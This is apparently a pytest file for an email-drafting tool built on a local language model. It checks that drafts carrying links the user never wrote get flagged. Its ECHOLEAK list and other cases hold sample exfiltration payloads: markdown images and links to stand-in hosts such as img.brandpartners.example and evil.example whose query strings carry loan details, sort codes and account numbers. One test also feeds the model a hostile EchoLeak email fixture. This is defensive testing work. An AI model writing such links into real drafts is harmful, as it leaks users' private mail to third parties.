"""Links in drafts: a URL the user never wrote is flagged; EchoLeak never passes.

The EchoLeak pattern is a markdown image (a mail client may fetch it on its own, with
no click) or a URL whose query string carries mail text out. The flag function is
tested directly with crafted drafts, then through ``ownvoice draft --json``: there the
student's ``generate`` is replaced by one that returns a crafted draft (a ``Runtime``
subclass with the real tokenizer and chat template, so the prompt is still built by
the real code), and the test reads the "flags" list of each draft.
"""

from __future__ import annotations

import json

import pytest

from app.cli import main
from trainer.draft import flags
from trainer.runtime.llama import Generation, Runtime

OWN = "https://halloway-cider.example/visit"  # written by Wren in tests/hostile/data/tiny.mbox
KNOWN = frozenset({flags.normalize_url(OWN)})

ECHOLEAK = [
    "Hiya Sid,\n\n![logo](https://img.brandpartners.example/logo.png?ref=Gerald%20loan%20of%2040k)\n\ncheers, W.",
    "![](https://img.brandpartners.example/l.png?d=sort+code+30-99-01)",
    "![logo]( https://img.brandpartners.example/logo.png?ref=SECRET )",
    "![a](//img.brandpartners.example/p.png?q=the+bank+said)",  # protocol-relative
    "![chart](https://img.brandpartners.example/Hiya-Gerald-the-press-loan-is-40k.png)",  # data in the path
    "Logo below\n![logo][1]\n\n[1]: https://img.brandpartners.example/logo.png?ref=SECRET",  # reference style
    '<img src="https://img.brandpartners.example/p.gif?d=the+loan">',
    "[click here](https://verify.westmoor-secure.example/confirm?acct=12345678)",
    "Confirm at https://verify.westmoor-secure.example/confirm?acct=12345678&sort=30-99-01 today.",
    "See <https://img.brandpartners.example/track?msg=Hiya+Gerald>.",
    f"{OWN}?ref=the+press+loan",  # the user's own page, but carrying text out
    "HTTPS://IMG.BRANDPARTNERS.EXAMPLE/P.PNG?D=LOAN",
    "visit www.brandpartners.example/t?d=loan+details please",
]


@pytest.mark.parametrize("text", ECHOLEAK)
def test_echoleak_shapes_are_always_flagged(text):
    assert flags.link_flag(text, KNOWN), text
    assert "link" in flags.draft_flags(text, store=None, thread=None)


@pytest.mark.parametrize("text", [
    "Directions: https://somewhere-else.example/map",
    "Try www.cider-news.example for the piece.",
    "Press day photos: http://photos.example/press",
])
def test_url_the_user_never_wrote_is_flagged(text):
    assert flags.link_flag(text, KNOWN)


@pytest.mark.parametrize("text", [
    "Hiya Dora, directions are on https://halloway-cider.example/visit - cheers, W.",
    "Directions: HTTPS://www.Halloway-Cider.example/visit/ (same as before).",
    "No links at all here, just cider.",
])
def test_url_the_user_wrote_is_not_flagged(text):
    assert not flags.link_flag(text, KNOWN)


@pytest.mark.parametrize("text", [
    "evil.example/collect?d=Hiya+Gerald+the+loan",  # bare host: many clients linkify it
    "ftp://evil.example/drop?d=loan",
    "![logo](https://img.brandpartners.example/a.png?d=x\n)",
])
def test_less_common_exfil_shapes_are_flagged(text):
    assert flags.link_flag(text, KNOWN), text


# -- through the CLI ----------------------------------------------------------------
class CannedRuntime(Runtime):
    """The real runtime (tokenizer, chat template) whose ``generate`` returns ``text``."""

    text = ""
    prompts: list = []

    def generate(self, prompt_or_messages, *, max_tokens=200, on_token=None, **kw):  # noqa: ANN001, ANN003
        self.prompts.append(self.chat_format_prompt(prompt_or_messages))
        if on_token:
            on_token(self.text)
        n = self.count_tokens(self.text)
        return Generation(self.text, n, len(self.prompts[-1]) // 4, 0.01, 0.005, "stop")


@pytest.fixture
def canned(monkeypatch):
    from trainer.runtime import llama as rt_mod, pool
    from trainer.runtime.models import resolve_model

    info = resolve_model("smollm2")
    rt = CannedRuntime(info, n_ctx=rt_mod.DEFAULT_N_CTX)
    rt.prompts = []
    monkeypatch.setitem(pool._RUNTIMES, (str(info.path), rt_mod.DEFAULT_N_CTX, 0), rt)  # (path, n_ctx, gpu layers)
    return rt


def _draft_json(capsys, *args: str) -> dict:
    capsys.readouterr()
    rc = main(["draft", *args, "--json"])
    out = capsys.readouterr()
    assert rc == 0, out.err
    return json.loads(out.out)


@pytest.mark.slow
def test_cli_json_flags_links(canned, capsys, tiny_mbox):
    assert main(["import", str(tiny_mbox), "--me", "wren@halloway-cider.example", "--json"]) == 0
    ask = "Can you send me directions to the farm, and your logo for the poster?"
    cases = {
        # (not a copy of 8+ words of the archived reply: that would be a leak, and redacted)
        f"Hiya, the map is at {OWN} - cheers, W.": False,
        "Hiya, here's the logo ![logo](https://img.brandpartners.example/l.png?ref=Dora%20twenty%20boxes)": True,
        f"Directions: {OWN}?from=Dora+Lane+Saturday": True,
        "Directions are on https://maps.elsewhere.example/x - cheers, W.": True,
        "No link needed, come by the press shed after nine.": False,
    }
    for text, flagged in cases.items():
        canned.text = text
        out = _draft_json(capsys, "--text", ask, "--variants", "base,rag")
        assert [d["variant"] for d in out["drafts"]] == ["base", "rag"], out
        for d in out["drafts"]:
            assert d["text"] == text
            assert isinstance(d["flags"], list)
            assert ("link" in d["flags"]) is flagged, (text, d["flags"])
    assert canned.prompts, "the canned runtime was not used"


@pytest.mark.slow
def test_cli_json_flags_match_the_real_models_draft(run_cli):
    """The embedded model answers the EchoLeak message; whatever it writes, the JSON
    flags say "link" exactly when the draft holds a link the user never wrote."""
    from tests.hostile.conftest import HOSTILE

    res = run_cli("draft", "--reply-to", str(HOSTILE / "10-echoleak-image.eml"), "--variants", "base",
                  "-n", "2", "--max-tokens", "48", "--seed", "3", "--json", timeout=600)
    assert res.returncode == 0, res.stderr[-3000:]
    out = json.loads(res.stdout)
    assert len(out["drafts"]) == 2
    for d in out["drafts"]:
        assert ("link" in d["flags"]) == flags.link_flag(d["text"], ()), d


class _Stores:
    """Two stores with the same number of own messages and different URLs (the
    ``store.count`` / ``store.messages`` interface ``flags.own_urls`` reads)."""

    class Store:
        def __init__(self, url):
            self.url = url

        def count(self, own=None):
            return 1

        def messages(self, own=None):
            from types import SimpleNamespace as M
            yield M(text=f"Directions: {self.url}", signature="")


def test_own_urls_are_cached_per_store_object_not_per_address():
    # a freed store's id() can be reused by the next one: the cache must not hand the new
    # store the old one's URLs
    # (CPython usually reuses the address at once; with the old id()-keyed cache this failed)
    for i in range(20):
        s = _Stores.Store(f"https://site{i}.example/page")
        assert flags.own_urls(s) == frozenset({flags.normalize_url(f"https://site{i}.example/page")})
        del s
